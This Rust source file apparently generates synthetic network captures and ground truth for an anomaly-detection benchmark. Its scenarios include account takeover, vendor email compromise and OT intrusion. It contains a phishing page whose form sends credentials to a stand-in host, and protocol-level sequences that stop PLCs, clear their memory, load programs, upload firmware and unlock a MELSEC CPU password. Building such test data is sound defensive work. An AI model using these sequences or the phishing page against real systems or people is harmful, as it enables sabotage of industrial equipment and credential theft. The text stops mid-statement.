//! The attack chains and benign novelties of each scenario, and their ground truth.
//!
//! Every scenario runs four hours of capture time from 08:00: two hours of learning, the attack
//! chain from 10:00, and a benign hour from 11:00 (`benign_day`: two benign hours from 10:00).

use crate::gen::actors::tls::{ClientProfile, TlsSession};
use crate::gen::rng::Rng;
use crate::gen::tcp::CLIENT;
use crate::gen::timeline::{Actor, Ctx, Kind, Script, Timeline};
use crate::gen::wire::Ip4;
use crate::gen::Micros;

use super::actors::{
    dns_lookup, ConvConfig, Conversation, End, Mail, MailConfig, Msg, Open, Periodic,
};
use super::proto::*;
use super::site::*;
use super::truth::{rfc3339, Novelty, Step, Truth};

/// Learning period of every scenario.
pub const LEARN: Micros = 2 * HOUR;
/// Capture length of every scenario.
pub const LENGTH: Micros = 4 * HOUR;

/// The attacker's laptop on the control network (ot_intrusion_ge_modbus).
pub const LAPTOP: Ip4 = [10, 0, 10, 66];
/// The rogue CC-Link master (ot_intrusion_mitsubishi).
pub const ROGUE_MASTER: Ip4 = [10, 0, 21, 66];
/// VPS addresses the taken-over workstation talks to.
pub const VPS: [Ip4; 2] = [[203, 0, 113, 201], [203, 0, 113, 203]];
/// The look-alike phishing site's address.
pub const PHISH: Ip4 = [203, 0, 113, 205];

fn ip(a: Ip4) -> String {
    std::net::Ipv4Addr::from(a).to_string()
}

fn ips(v: &[Ip4]) -> Vec<String> {
    v.iter().map(|a| ip(*a)).collect()
}

fn strs(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

/// Adds a step to the truth.
#[allow(clippy::too_many_arguments)]
fn step(
    truth: &mut Truth,
    id: &str,
    chain: &str,
    description: &str,
    (start, end): (Micros, Micros),
    attacker: &[Ip4],
    victims: &[Ip4],
    models: &[&str],
    may_fire: &[&str],
) {
    truth.steps.push(Step {
        id: id.into(),
        chain: chain.into(),
        description: description.into(),
        start: rfc3339(start),
        end: rfc3339(end),
        start_us: start,
        end_us: end,
        attacker: ips(attacker),
        victims: ips(victims),
        models: strs(models),
        may_fire: strs(may_fire),
    });
}

fn novelty(
    truth: &mut Truth,
    id: &str,
    description: &str,
    at: Micros,
    devices: &[Ip4],
    low: &[&str],
) {
    truth.novelties.push(Novelty {
        id: id.into(),
        description: description.into(),
        start: rfc3339(at),
        start_us: at,
        devices: ips(devices),
        low_score_models: strs(low),
    });
}

/// Spawns one actor built against the context at `at`.
fn at(tl: &mut Timeline, t: Micros, f: impl FnOnce(&mut Ctx) -> Box<dyn Actor>) {
    let a = f(tl.ctx());
    tl.spawn(t, a);
}

fn conv(tl: &mut Timeline, t: Micros, cfg: ConvConfig, rng: &mut Rng) {
    let r = rng.fork();
    at(tl, t, |ctx| Conversation::boxed(cfg, ctx, r));
}

/// A single DNS lookup at `t`.
fn lookup(tl: &mut Timeline, t: Micros, client: Ip4, name: &'static str, addr: Ip4, rng: &mut Rng) {
    let d = Periodic::every(
        HOUR,
        0,
        t + 1,
        rng.fork(),
        Box::new(move |ctx: &mut Ctx, s: &mut Script, rng: &mut Rng, _| {
            let now = ctx.now;
            dns_lookup(
                ctx,
                s,
                rng,
                now,
                &host(client),
                &host(RESOLVER),
                name,
                Some(addr),
            );
        }),
    );
    tl.spawn(t, Box::new(d));
}

/// Routine IT-heavy load: busy office, light control network.
fn it_plan(start: Micros) -> Plan {
    let mut p = Plan::new(start, start + LENGTH);
    p.visit_gap = Some(2_500_000);
    p.tls_period = 22 * MIN;
    p.user_mail_gap = 40 * MIN;
    p.inbound_mail_gap = Some(10 * MIN);
    p.hmi1 = vec![(start + 5 * SEC, start + LENGTH, 20 * SEC)];
    p.hmi2_period = Some(120 * SEC);
    p
}

/// Routine OT-heavy load: busy control network, quiet office.
fn ot_plan(start: Micros) -> Plan {
    let mut p = Plan::new(start, start + LENGTH);
    p.visit_gap = Some(9 * SEC);
    p.users = 7;
    p.tls_period = 22 * MIN;
    p.user_mail_gap = 60 * MIN;
    p.inbound_mail_gap = Some(20 * MIN);
    p.hmi2_period = Some(40 * SEC);
    p.ews = true;
    p
}

fn header(truth: &mut Truth, start: Micros, benign: Micros) {
    truth.capture_start = rfc3339(start);
    truth.capture_end = rfc3339(start + LENGTH);
    truth.learn_for = format!("{}h", LEARN / HOUR);
    truth.learn_for_secs = LEARN / 1_000_000;
    truth.learning_end = rfc3339(start + LEARN);
    truth.learning_end_us = start + LEARN;
    truth.benign_start = rfc3339(benign);
    truth.benign_start_us = benign;
    let mut devices = vec![
        (ip(MAIL), "mail server mail.halvorsen.example".to_string()),
        (ip(RESOLVER), "DNS resolver".into()),
        (
            ip(HMI1),
            "HMI-1 (Modbus poll of PLC-1, one connection)".into(),
        ),
        (
            ip(HMI2),
            "HMI-2 (Modbus poll of PLC-2, a connection per poll)".into(),
        ),
        (ip(HMI3), "HMI-3 (SLMP poll of the MELSEC CPU)".into()),
        (ip(EWS), "engineering workstation".into()),
        (ip(PLC1), "PLC-1 Modbus".into()),
        (ip(PLC2), "PLC-2 Modbus".into()),
        (ip(GE1), "GE RX3i (SRTP, EGD producer)".into()),
        (ip(GE2), "GE RX3i (EGD consumer)".into()),
        (ip(MELSEC), "MELSEC Q03UDE (SLMP 5000, MELSOFT 5007)".into()),
        (ip(CCL_MASTER), "CC-Link IE Field Basic master".into()),
        (ip(CCL_SLAVE), "CC-Link IE Field Basic slave".into()),
    ];
    for u in USERS {
        devices.push((ip(u.ip), format!("workstation of {}", address(u))));
    }
    truth.devices = devices;
}

/// Builds scenario `name` onto `tl`: routine traffic, chain, truth. `None` if unknown.
pub fn build(
    name: &str,
    start: Micros,
    tl: &mut Timeline,
    truth: &mut Truth,
    rng: &mut Rng,
) -> Option<()> {
    match name {
        "account_takeover" => account_takeover(start, tl, truth, rng),
        "vendor_email_compromise" => vendor_email_compromise(start, tl, truth, rng),
        "ot_intrusion_ge_modbus" => ot_ge_modbus(start, tl, truth, rng),
        "ot_intrusion_mitsubishi" => ot_mitsubishi(start, tl, truth, rng),
        "benign_day" => benign_day(start, tl, truth, rng),
        _ => return None,
    }
    Some(())
}

/// Office novelties of a benign period: a user opens a site several colleagues use; a new
/// person at a known supplier writes for the first time.
fn office_novelties(t0: Micros, tl: &mut Timeline, truth: &mut Truth, rng: &mut Rng) {
    let user = USERS[1]; // m.olsen: never used maps.geoview.example
    let (name, addr) = WEB[WEB_MAPS];
    let t = t0 + 20 * MIN;
    lookup(tl, t, user.ip, name, addr, rng);
    let cfg = tls_config(&host(user.ip), name, addr, ClientProfile::Browser);
    let r = rng.fork();
    at(tl, t + 50_000, |ctx| Box::new(TlsSession::new(cfg, ctx, r)));
    novelty(
        truth,
        "n1",
        "m.olsen opens maps.geoview.example for the first time; four colleagues use it",
        t,
        &[user.ip],
        &["rare_tls_destination", "new_external_endpoint"],
    );
    let t = t0 + 35 * MIN;
    let c = Correspondent {
        sender: "lars.holm@northwind-supply.example",
        ..CORRESPONDENTS[VENDOR]
    };
    let text = vec![
        "Hello,".into(),
        String::new(),
        "I am taking over your account from Anna; the order status is at".into(),
        "https://www.northwind-supply.example/orders/5521".into(),
        String::new(),
        "Best regards, Lars".into(),
    ];
    let cfg = inbound_config(&c, text, "New contact for your orders", rng);
    let r = rng.fork();
    at(tl, t, |ctx| Mail::boxed(cfg, ctx, r));
    novelty(
        truth,
        "n2",
        "a new person at the known supplier northwind-supply.example writes for the first time, through the supplier's usual MTA",
        t,
        &[c.mta, MAIL],
        &["new_smtp_sender"],
    );
}

/// An SRTP maintenance read by the engineering workstation: the usual registers plus the
/// program name (0x03) and discrete inputs, which it had not read before.
fn ews_maintenance(t: Micros, tl: &mut Timeline, truth: &mut Truth, id: &str, rng: &mut Rng) {
    let reqs = vec![
        (
            srtp_request(901, 0x04, 0x08, 0, 32),
            srtp_ack_text(901, &rng.bytes(64), SRTP_STATUS_RUN),
        ),
        (
            srtp_request(902, 0x03, 0x00, 0, 0),
            srtp_ack_text(902, b"LINE2_MAIN\0\0\0\0\0\0", SRTP_STATUS_RUN),
        ),
        (
            srtp_request(903, 0x04, 0x46, 0, 64),
            srtp_ack_text(903, &rng.bytes(8), SRTP_STATUS_RUN),
        ),
        (
            srtp_request(904, 0x04, 0x08, 100, 32),
            srtp_ack_text(904, &rng.bytes(64), SRTP_STATUS_RUN),
        ),
    ];
    let cfg = ConvConfig::new(
        &host(EWS),
        &host(GE1),
        SRTP_PORT,
        Kind::Modbus,
        srtp_session(&reqs),
    );
    conv(tl, t, cfg, rng);
    novelty(
        truth,
        id,
        "maintenance: the engineering workstation reads GE1's program name (SRTP 0x03), discrete inputs and more registers",
        t,
        &[EWS, GE1],
        &["ot_new_function_code"],
    );
}

fn account_takeover(start: Micros, tl: &mut Timeline, truth: &mut Truth, rng: &mut Rng) {
    let att = start + LEARN;
    let benign = start + 3 * HOUR;
    header(truth, start, benign);
    truth.attack_hosts = ips(&VPS);
    let plan = it_plan(start);
    routine(tl, &plan, rng);
    let w = USERS[FINANCE_USER];
    let wh = host(w.ip);
    let chain = "account-takeover";
    truth
        .devices
        .push((ip(VPS[0]), "VPS (hosting provider range)".into()));
    truth
        .devices
        .push((ip(VPS[1]), "VPS (hosting provider range)".into()));

    // a1: rare VPS endpoints over TLS from a new client (a script, not the browser).
    let t = att + 4 * MIN;
    let targets = [
        (0, "cdn-sync.vps-node.example", VPS[0]),
        (3 * MIN, "api.vps-node.example", VPS[1]),
        (8 * MIN, "cdn-sync.vps-node.example", VPS[0]),
    ];
    for (dt, name, addr) in targets {
        lookup(tl, t + dt, w.ip, name, addr, rng);
        let mut cfg = tls_config(&wh, name, addr, ClientProfile::Library);
        cfg.exchanges = 3;
        cfg.response = (2_000, 6_000);
        let r = rng.fork();
        at(tl, t + dt + 30_000, |ctx| {
            Box::new(TlsSession::new(cfg, ctx, r))
        });
    }
    step(
        truth,
        "a1",
        chain,
        "j.meyer's workstation resolves and talks TLS to two VPS addresses, with never-seen server names and a TLS client it never used (a script, not its browser)",
        (t, t + 10 * MIN),
        &[w.ip],
        &VPS,
        &["new_external_endpoint", "rare_tls_destination", "new_ja4"],
        &[],
    );

    // a2: mass mailing with the taken-over account.
    let t = att + 20 * MIN;
    let domains = [
        "mailbox-one.example",
        "inbox-world.example",
        "postbox.example",
        "fastmail-relay.example",
        "netpost.example",
        "webpost.example",
    ];
    let first = [
        "anna", "bjorn", "carla", "david", "erik", "fiona", "gustav", "helena", "ivan", "julia",
        "karl", "lena",
    ];
    let html = credit_transfer_html();
    let mut sent = 0u32;
    for k in 0..40u64 {
        let rcpts: Vec<String> = (0..30)
            .map(|_| {
                format!(
                    "{}.{}{}@{}",
                    rng.pick(&first),
                    rng.pick(&first),
                    rng.range(1, 999),
                    rng.pick(&domains)
                )
            })
            .collect();
        sent += rcpts.len() as u32;
        let from = address(&w);
        let cfg = MailConfig {
            client: wh.clone(),
            server: host(MAIL),
            server_name: "mail.halvorsen.example".into(),
            helo: format!("ws{}.halvorsen.example", w.ip[3]),
            mail_from: from.clone(),
            rcpt_to: rcpts,
            message: Message {
                from,
                to: Vec::new(),
                cc: Vec::new(),
                subject: "Credit Transfer Copy".into(),
                text: vec![
                    "Good day,".into(),
                    String::new(),
                    "please find attached the copy of the credit transfer made today.".into(),
                    "Open the attachment to view the confirmation.".into(),
                ],
                attachments: vec![Attachment {
                    name: "Credit Transfer Copy.html".into(),
                    content_type: "text/html".into(),
                    body: html.clone(),
                }],
            },
            pipelining: true,
        };
        let r = rng.fork();
        let when = t + k * 25 * SEC + rng.range(0, 10 * SEC);
        at(tl, when, |ctx| Mail::boxed(cfg, ctx, r));
    }
    step(
        truth,
        "a2",
        chain,
        &format!(
            "j.meyer's workstation sends 40 messages with 'Credit Transfer Copy.html' to {sent} recipients it never wrote to, all in BCC (To: undisclosed-recipients), through the mail server"
        ),
        (t, t + 18 * MIN),
        &[w.ip],
        &[MAIL],
        &["outbound_spam", "unusual_attachment_type"],
        &["link_to_new_domain"],
    );
    office_novelties(benign, tl, truth, rng);
}

/// The phishing page attached to the mass mailing.
fn credit_transfer_html() -> Vec<u8> {
    let mut h = String::from(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Credit Transfer</title></head>\n<body>\n",
    );
    h.push_str(
        "<h2>Credit transfer confirmation</h2>\n<p>Sign in to view the transfer copy.</p>\n",
    );
    h.push_str("<form action=\"https://portal-auth.vps-node.example/login\" method=\"post\">\n");
    h.push_str("<input name=\"email\" type=\"email\"><input name=\"pass\" type=\"password\">\n<button>View</button></form>\n");
    while h.len() < 1_800 {
        h.push_str("<p style=\"display:none\">ref 0000000000000000000000000000</p>\n");
    }
    h.push_str("</body></html>\n");
    h.into_bytes()
}

fn vendor_email_compromise(start: Micros, tl: &mut Timeline, truth: &mut Truth, rng: &mut Rng) {
    let att = start + LEARN;
    let benign = start + 3 * HOUR;
    header(truth, start, benign);
    truth.attack_hosts = ips(&[PHISH]);
    let plan = it_plan(start);
    routine(tl, &plan, rng);
    let chain = "vendor-email-compromise";
    let vendor = CORRESPONDENTS[VENDOR];
    truth.devices.push((
        ip(vendor.mta),
        format!("MTA of {} (known correspondent)", vendor.sender),
    ));
    truth
        .devices
        .push((ip(PHISH), "look-alike phishing site s3cure0line.com".into()));
    let finance = [address(&USERS[FINANCE_USER]), address(&USERS[7])];

    // b1: link to a never-seen file-sharing domain.
    let t = att + 10 * MIN;
    let mut cfg = inbound_config(
        &vendor,
        vec![
            "Dear all,".into(),
            String::new(),
            "our bank details have changed. The signed letter is in our shared folder:".into(),
            "https://files.dropvault.example/s/Qm7x2Kp".into(),
            String::new(),
            "Please update your records before the next payment run.".into(),
            "Anna Berg, Northwind Supply".into(),
        ],
        "Updated bank details",
        rng,
    );
    cfg.rcpt_to = finance.to_vec();
    cfg.message.to = finance.to_vec();
    let r = rng.fork();
    at(tl, t, |ctx| Mail::boxed(cfg, ctx, r));
    step(
        truth,
        "b1",
        chain,
        "the known correspondent anna.berg@northwind-supply.example mails finance a link to files.dropvault.example, a file-sharing domain never seen on the network",
        (t, t + 2 * MIN),
        &[vendor.mta],
        &[MAIL],
        &["link_to_new_domain"],
        &[],
    );

    // b2: link to a look-alike of the known secureonline.com.
    let t = att + 35 * MIN;
    let mut cfg = inbound_config(
        &vendor,
        vec![
            "Hello,".into(),
            String::new(),
            "to release the pending payment please confirm it on the bank portal:".into(),
            "https://s3cure0line.com/auth/login?ref=halvorsen".into(),
            String::new(),
            "Anna Berg, Northwind Supply".into(),
        ],
        "Payment portal: action required",
        rng,
    );
    cfg.rcpt_to = finance.to_vec();
    cfg.message.to = finance.to_vec();
    let r = rng.fork();
    at(tl, t, |ctx| Mail::boxed(cfg, ctx, r));
    step(
        truth,
        "b2",
        chain,
        "the same correspondent mails a link to s3cure0line.com, a look-alike of the known secureonline.com",
        (t, t + 2 * MIN),
        &[vendor.mta],
        &[MAIL],
        &["lookalike_domain", "link_to_new_domain"],
        &[],
    );

    // b3: r.lund follows the link.
    let t = att + 41 * MIN;
    let u = USERS[7];
    lookup(tl, t, u.ip, "s3cure0line.com", PHISH, rng);
    let cfg = tls_config(
        &host(u.ip),
        "s3cure0line.com",
        PHISH,
        ClientProfile::Browser,
    );
    let r = rng.fork();
    at(tl, t + 40_000, |ctx| Box::new(TlsSession::new(cfg, ctx, r)));
    step(
        truth,
        "b3",
        chain,
        "r.lund follows the link: resolves s3cure0line.com and opens it over TLS",
        (t, t + MIN),
        &[PHISH],
        &[u.ip],
        &["new_external_endpoint"],
        &["rare_tls_destination"],
    );
    office_novelties(benign, tl, truth, rng);
}

/// Modbus function-code sweep: every code 1–127 with the data `00 00 00 01`, answered by
/// PLC-1 the way an M340 answers (reads served, the single-register write executed, malformed
/// requests refused with exception 3, unsupported codes with exception 1).
fn fc_sweep(rng: &mut Rng) -> Vec<Msg> {
    let mut msgs = Vec::new();
    let mut tid = rng.next_u16();
    for fc in 1u8..=127 {
        tid = tid.wrapping_add(1);
        let req = [fc, 0, 0, 0, 1];
        let resp = match fc {
            1 | 2 => modbus_bits(fc, 1, 1),
            3 | 4 => modbus_registers(fc, &[1234]),
            6 => req.to_vec(),
            8 => req.to_vec(),
            5 | 15 | 16 | 23 | 43 => modbus_exception(fc, 3),
            _ => modbus_exception(fc, 1),
        };
        msgs.push(Msg::c(20_000, modbus_adu(tid, 1, &req)));
        msgs.push(Msg::s(1_500, modbus_adu(tid, 1, &resp)));
    }
    msgs
}

fn ot_ge_modbus(start: Micros, tl: &mut Timeline, truth: &mut Truth, rng: &mut Rng) {
    let att = start + LEARN;
    let benign = start + 3 * HOUR;
    header(truth, start, benign);
    truth.attack_hosts = ips(&[LAPTOP]);
    let chain = "ot-intrusion";
    let laptop = linux_host(LAPTOP);
    truth.devices.push((
        ip(LAPTOP),
        "attacker laptop plugged into the control network".into(),
    ));
    let t_stop = att + 20 * MIN;
    let t_run = att + 26 * MIN;
    let t_sig = att + 29 * MIN;
    let t_fw = att + 36 * MIN;
    let t_shift = att + 40 * MIN;
    let mut plan = ot_plan(start);
    plan.hmi1 = vec![
        (start + 5 * SEC, t_shift, 5 * SEC),
        (t_shift + 3 * SEC, t_shift + 10 * MIN, SEC),
        (t_shift + 10 * MIN + 3 * SEC, start + LENGTH, 5 * SEC),
    ];
    plan.egd_period = Some(4 * SEC);
    plan.egd_signature_change = Some((t_sig, 0x5A3C_0002));
    plan.plc1_revision_change = Some((t_fw, "V3.20"));
    plan.ge1_stopped = Some((t_stop, t_run));
    routine(tl, &plan, rng);

    // c1: the laptop appears and identifies the controllers.
    let t = att + 3 * MIN;
    let (a, b, c) = GE1_ID;
    let reqs = vec![
        (
            srtp_request(1, 0x00, 0, 0, 0),
            srtp_ack(1, &[0, 0, 0, 0, 0, 0], SRTP_STATUS_RUN),
        ),
        (
            srtp_request(2, 0x43, 0, 0, 0),
            srtp_ack_text(2, &srtp_controller_id(a, b, c), SRTP_STATUS_RUN),
        ),
    ];
    conv(
        tl,
        t,
        ConvConfig::new(
            &laptop,
            &host(GE1),
            SRTP_PORT,
            Kind::Modbus,
            srtp_session(&reqs),
        ),
        rng,
    );
    let tid = rng.next_u16();
    let msgs = vec![
        Msg::c(0, modbus_adu(tid, 1, &modbus_device_id_request())),
        Msg::s(
            2_000,
            modbus_adu(
                tid,
                1,
                &modbus_device_id_response(PLC1_ID.0, PLC1_ID.1, PLC1_ID.2),
            ),
        ),
    ];
    conv(
        tl,
        t + 40 * SEC,
        ConvConfig::new(&laptop, &host(PLC1), 502, Kind::Modbus, msgs),
        rng,
    );
    step(
        truth,
        "c1",
        chain,
        "a laptop never seen before appears on the control network and identifies GE1 (SRTP status, controller id) and PLC-1 (Modbus device identification)",
        (t, t + 2 * MIN),
        &[LAPTOP],
        &[GE1, PLC1],
        &["new_device"],
        &["ot_new_function_code"],
    );

    // c2: TCP connect scan of the PLC subnet on 502 and 18245.
    let t = att + 8 * MIN;
    let open = |a: Ip4, port: u16| {
        matches!(
            (a, port),
            (PLC1, 502) | (PLC2, 502) | (GE1, SRTP_PORT) | (GE2, SRTP_PORT)
        )
    };
    let exists = |a: Ip4| [PLC1, PLC2, GE1, GE2, MELSEC].contains(&a);
    let mut k = 0u64;
    for d in 1u8..=60 {
        for port in [502u16, SRTP_PORT] {
            let target: Ip4 = [10, 0, 20, d];
            let mut cfg = ConvConfig::new(&laptop, &host(target), port, Kind::Modbus, Vec::new());
            if open(target, port) {
                cfg.end = End::Rst(CLIENT);
            } else if exists(target) {
                cfg.open = Open::Refused;
            } else {
                cfg.open = Open::SynOnly;
            }
            conv(tl, t + k * 400_000, cfg, rng);
            k += 1;
        }
    }
    step(
        truth,
        "c2",
        chain,
        "the laptop scans 10.0.20.1-60 on TCP 502 and 18245 (connect scan; 5 controllers answer, the other addresses are unused)",
        (t, t + 2 * MIN),
        &[LAPTOP],
        &[PLC1, PLC2, GE1, GE2, MELSEC],
        &["scan"],
        &[],
    );

    // c3: Modbus function-code sweep against PLC-1.
    let t = att + 12 * MIN;
    conv(
        tl,
        t,
        ConvConfig::new(&laptop, &host(PLC1), 502, Kind::Modbus, fc_sweep(rng)),
        rng,
    );
    step(
        truth,
        "c3",
        chain,
        "the laptop sweeps Modbus function codes 1-127 against PLC-1",
        (t, t + 5 * MIN),
        &[LAPTOP],
        &[PLC1],
        &["ot_new_function_code"],
        &["ot_first_write"],
    );

    // c4: HMI-2, which only ever read PLC-2, writes set-points (FC 16).
    let t = att + 16 * MIN;
    for i in 0..3u64 {
        let tid = rng.next_u16();
        let (req, resp) = modbus_write_multiple(40 + i as u16 * 2, &[9999, 9999]);
        let msgs = vec![
            Msg::c(0, modbus_adu(tid, 1, &req)),
            Msg::s(2_000, modbus_adu(tid, 1, &resp)),
        ];
        conv(
            tl,
            t + i * 40 * SEC,
            ConvConfig::new(&host(HMI2), &host(PLC2), 502, Kind::Modbus, msgs),
            rng,
        );
    }
    step(
        truth,
        "c4",
        chain,
        "HMI-2, which only read PLC-2 while learning, writes holding registers 40-45 with Write Multiple Registers (FC 16)",
        (t, t + 2 * MIN),
        &[HMI2],
        &[PLC2],
        &["ot_first_write", "ot_new_function_code"],
        &[],
    );

    // c5: programmer logon and remote STOP of GE1.
    let reqs = vec![
        (
            srtp_request_text(11, 0x20, 0, b"PACSYS01"),
            srtp_ack(11, &[], SRTP_STATUS_RUN),
        ),
        (
            srtp_request(12, 0x23, 0x02, 0, 0),
            srtp_ack(12, &[], SRTP_STATUS_STOP),
        ),
        (
            srtp_request(13, 0x00, 0, 0, 0),
            srtp_ack(13, &[0; 6], SRTP_STATUS_STOP),
        ),
    ];
    conv(
        tl,
        t_stop,
        ConvConfig::new(
            &laptop,
            &host(GE1),
            SRTP_PORT,
            Kind::Modbus,
            srtp_session(&reqs),
        ),
        rng,
    );
    step(
        truth,
        "c5",
        chain,
        "the laptop logs on to GE1 as programmer (SRTP 0x20) and sets it to STOP (SRTP 0x23); GE1's status word turns to STOP",
        (t_stop, t_stop + MIN),
        &[LAPTOP],
        &[GE1],
        &["ot_auth", "ot_controller_state_change", "ot_new_function_code"],
        &[],
    );

    // c6: clear all memory.
    let t = t_stop + 2 * MIN;
    let reqs = vec![(
        srtp_request(21, 0x35, 0, 0, 0),
        srtp_ack(21, &[], SRTP_STATUS_STOP),
    )];
    conv(
        tl,
        t,
        ConvConfig::new(
            &laptop,
            &host(GE1),
            SRTP_PORT,
            Kind::Modbus,
            srtp_session(&reqs),
        ),
        rng,
    );
    step(
        truth,
        "c6",
        chain,
        "the laptop clears all of GE1's memory (SRTP 0x35)",
        (t, t + MIN),
        &[LAPTOP],
        &[GE1],
        &["ot_memory_clear_or_set_time"],
        &["ot_new_function_code"],
    );

    // c7: program download and RUN.
    let t = t_stop + 3 * MIN;
    let mut reqs = Vec::new();
    for i in 0..8u16 {
        let block: Vec<u8> = (0..1024u32)
            .map(|j| (j.wrapping_mul(7) ^ u32::from(i)) as u8)
            .collect();
        reqs.push((
            srtp_request_text(31 + i, 0x40, 0x00, &block),
            srtp_ack(31 + i, &[], SRTP_STATUS_STOP),
        ));
    }
    reqs.push((
        srtp_request(40, 0x23, 0x00, 0, 0),
        srtp_ack(40, &[], SRTP_STATUS_RUN),
    ));
    conv(
        tl,
        t,
        ConvConfig::new(
            &laptop,
            &host(GE1),
            SRTP_PORT,
            Kind::Modbus,
            srtp_session(&reqs),
        ),
        rng,
    );
    step(
        truth,
        "c7",
        chain,
        "the laptop downloads a program to GE1 (8 × SRTP 0x40 program load) and sets it back to RUN",
        (t, t_run + MIN),
        &[LAPTOP],
        &[GE1],
        &["ot_program_transfer"],
        &["ot_new_function_code", "ot_controller_state_change"],
    );

    // c8: set the PLC clock.
    let t = t_run + MIN;
    let reqs = vec![(
        srtp_request_text(51, 0x24, 0, &[0x00, 0x30, 0x10, 0x05, 0x01, 0x26, 0x01]),
        srtp_ack(51, &[], SRTP_STATUS_RUN),
    )];
    conv(
        tl,
        t,
        ConvConfig::new(
            &laptop,
            &host(GE1),
            SRTP_PORT,
            Kind::Modbus,
            srtp_session(&reqs),
        ),
        rng,
    );
    step(
        truth,
        "c8",
        chain,
        "the laptop sets GE1's clock (SRTP 0x24)",
        (t, t + MIN),
        &[LAPTOP],
        &[GE1],
        &["ot_memory_clear_or_set_time"],
        &["ot_new_function_code"],
    );

    // c9: EGD configuration signature changes with the new program.
    step(
        truth,
        "c9",
        chain,
        "GE1 produces EGD exchange 1 with a new configuration signature (0x5a3c0001 → 0x5a3c0002) after the download",
        (t_sig, t_sig + MIN),
        &[LAPTOP],
        &[GE1],
        &["ot_new_master_or_producer"],
        &[],
    );

    // c10: firmware upload to PLC-1 over HTTP.
    let t = t_fw - 2 * MIN;
    let mut body = b"POST /fw/upload HTTP/1.1\r\nHost: 10.0.20.1\r\nContent-Type: application/octet-stream\r\nContent-Length: 24576\r\n\r\n".to_vec();
    body.extend_from_slice(&rng.bytes(24_576));
    let msgs = vec![
        Msg::c(0, body),
        Msg::s(
            400_000,
            b"HTTP/1.1 200 OK\r\nContent-Length: 19\r\n\r\nupdate scheduled\r\n".to_vec(),
        ),
    ];
    conv(
        tl,
        t,
        ConvConfig::new(&laptop, &host(PLC1), 80, Kind::Http, msgs),
        rng,
    );
    step(
        truth,
        "c10",
        chain,
        "the laptop uploads a firmware image to PLC-1's web server (HTTP POST on TCP 80, a port PLC-1 never served)",
        (t, t + MIN),
        &[LAPTOP],
        &[PLC1],
        &["new_server_service"],
        &[],
    );
    step(
        truth,
        "c11",
        chain,
        "PLC-1's revision changes from V3.10 to V3.20, as the engineering workstation's next Modbus device identification shows",
        (t_fw, t_fw + 20 * MIN),
        &[LAPTOP],
        &[PLC1],
        &["ot_firmware_change"],
        &[],
    );

    // c12: HMI-1's polling period shifts from 5 s to 1 s for ten minutes.
    step(
        truth,
        "c12",
        chain,
        "HMI-1 reconnects and polls PLC-1 every 1 s instead of every 5 s for ten minutes, then returns to 5 s",
        (t_shift, t_shift + 12 * MIN),
        &[HMI1],
        &[PLC1],
        &["ot_polling_shift"],
        &[],
    );

    ews_maintenance(benign + 15 * MIN, tl, truth, "n3", rng);
    office_novelties(benign, tl, truth, rng);
}

fn ot_mitsubishi(start: Micros, tl: &mut Timeline, truth: &mut Truth, rng: &mut Rng) {
    let att = start + LEARN;
    let benign = start + 3 * HOUR;
    header(truth, start, benign);
    truth.attack_hosts = ips(&[ROGUE_MASTER]);
    let chain = "ot-intrusion";
    truth.devices.push((
        ip(ROGUE_MASTER),
        "rogue CC-Link IE Field Basic master".into(),
    ));
    let t_model = att + 25 * MIN;
    let mut plan = ot_plan(start);
    plan.melsec_poll = Some(5 * SEC);
    plan.cciefb_period = Some(10 * SEC);
    plan.melsec_model_change = Some((t_model, "Q03UDVCPU", 0x0366));
    routine(tl, &plan, rng);
    let ews_h = host(EWS);
    let melsec = host(MELSEC);

    // m1: remote password unlock.
    let t = att + 5 * MIN;
    let msgs = vec![
        Msg::c(0, slmp_password_unlock("m3l5")),
        Msg::s(3_000, slmp_response(0, &[])),
    ];
    conv(
        tl,
        t,
        ConvConfig::new(&ews_h, &melsec, SLMP_PORT, Kind::Modbus, msgs),
        rng,
    );
    step(
        truth,
        "m1",
        chain,
        "the engineering workstation (remote-controlled) unlocks the MELSEC CPU's remote password over SLMP (0x1630, password in clear)",
        (t, t + MIN),
        &[EWS],
        &[MELSEC],
        &["ot_auth", "ot_new_function_code"],
        &[],
    );

    // m2: remote STOP.
    let t = att + 7 * MIN;
    let msgs = vec![
        Msg::c(0, slmp_request(SLMP_REMOTE_STOP, 0, &[0x01, 0x00])),
        Msg::s(3_000, slmp_response(0, &[])),
    ];
    conv(
        tl,
        t,
        ConvConfig::new(&ews_h, &melsec, SLMP_PORT, Kind::Modbus, msgs),
        rng,
    );
    step(
        truth,
        "m2",
        chain,
        "the engineering workstation stops the CPU (SLMP remote STOP 0x1002)",
        (t, t + MIN),
        &[EWS],
        &[MELSEC],
        &["ot_controller_state_change", "ot_new_function_code"],
        &[],
    );

    // m3: program download over MELSOFT.
    let t = att + 10 * MIN;
    let mut model = MELSEC_MODEL.0.as_bytes().to_vec();
    model.resize(16, b' ');
    model.extend_from_slice(&MELSEC_MODEL.1.to_le_bytes());
    let mut msgs = vec![
        Msg::c(0, melsoft_request(700, MELSOFT_OPEN_INITIAL, &[0, 0])),
        Msg::s(
            3_000,
            melsoft_response(700, MELSOFT_OPEN_INITIAL, 0, &model),
        ),
        Msg::c(
            20_000,
            melsoft_request(701, MELSOFT_PROGRAM_BEGIN, &[0x01, 0x00]),
        ),
        Msg::s(3_000, melsoft_response(701, MELSOFT_PROGRAM_BEGIN, 0, &[])),
        Msg::c(
            20_000,
            melsoft_request(702, MELSOFT_FILE_OPEN, b"\x02\x00MAIN.PRG\0\0"),
        ),
        Msg::s(
            3_000,
            melsoft_response(702, MELSOFT_FILE_OPEN, 0, &[0x01, 0x00]),
        ),
    ];
    for i in 0..8u16 {
        let mut d = vec![0x01, 0x00];
        d.extend_from_slice(&(u32::from(i) * 512).to_le_bytes());
        d.extend((0..512u32).map(|j| (j.wrapping_mul(13) ^ u32::from(i)) as u8));
        msgs.push(Msg::c(
            5_000,
            melsoft_request(703 + i, MELSOFT_FILE_WRITE, &d),
        ));
        msgs.push(Msg::s(
            3_000,
            melsoft_response(703 + i, MELSOFT_FILE_WRITE, 0, &[]),
        ));
    }
    msgs.push(Msg::c(
        5_000,
        melsoft_request(720, MELSOFT_FILE_CLOSE, &[0x01, 0x00]),
    ));
    msgs.push(Msg::s(
        3_000,
        melsoft_response(720, MELSOFT_FILE_CLOSE, 0, &[]),
    ));
    msgs.push(Msg::c(
        5_000,
        melsoft_request(721, MELSOFT_PROGRAM_END, &[0x01, 0x00]),
    ));
    msgs.push(Msg::s(
        3_000,
